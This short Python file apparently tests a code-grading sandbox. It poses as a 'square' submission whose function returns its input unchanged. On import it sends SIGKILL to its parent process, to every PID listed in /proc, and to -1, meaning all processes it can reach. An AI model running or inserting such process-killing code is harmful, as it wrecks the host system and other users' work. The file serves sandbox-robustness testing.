"""Kills the process that started it, and then every process that it can see."""

FLAGS = ("square",)

# %% square
import os
import signal


def square(x):
    return x


for pid in [os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit()), -1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
